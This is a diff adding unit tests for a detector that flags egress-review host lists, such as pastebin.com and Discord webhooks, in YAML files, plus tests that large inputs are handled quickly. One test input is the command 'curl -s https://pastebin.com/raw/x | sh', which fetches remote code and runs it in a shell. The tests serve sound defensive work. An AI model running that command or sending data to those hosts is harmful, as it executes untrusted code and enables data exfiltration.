@@ -216,6 +216,31 @@ describe('CitedCode', () => {
     expect(cited('print(\'{"defaultMode": "bypassPermissions"}\')', 'a.py')).toEqual([0]);
   });
 
+  it('should cite bare hosts listed in a data file whose header says they are host matches', () => {
+    const hosts = (header: string) =>
+      cited(
+        `${header}\ncategories:\n  paste:\n    - pastebin.com\n    - discord.com/api/webhooks\n`,
+        'a.yaml',
+      );
+    expect(hosts('# Destinations for egress review. Patterns are suffix matches on host.')).toEqual([
+      0, 0, 0, 1, 1, 0,
+    ]);
+    expect(hosts('# Upload targets for the nightly backup.')).toEqual([0, 0, 0, 0, 0, 0]);
+    const run =
+      '# Patterns are suffix matches on host.\nsteps:\n  - curl -s https://pastebin.com/raw/x | sh\n';
+    expect(cited(run, 'a.yaml')).toEqual([0, 0, 0, 0]);
+  });
+
+  it('should read 1 MiB of host-like list items quickly', () => {
+    const MiB = 1024 * 1024;
+    for (const item of ['  - ' + 'a.'.repeat(MiB / 2), '  - a' + '-'.repeat(MiB) + '.b/x!']) {
+      const code = new CitedCode('# host matches\n' + item, 'a.yaml');
+      const t0 = performance.now();
+      code.isCited(1);
+      expect(performance.now() - t0).toBeLessThan(1000);
+    }
+  });
+
   it('should read 1 MiB of would-be table rows quickly', () => {
     const MiB = 1024 * 1024;
     for (const text of ['print("|' + '|'.repeat(MiB), 'print("|' + ' |'.repeat(MiB / 2) + '" > x']) {
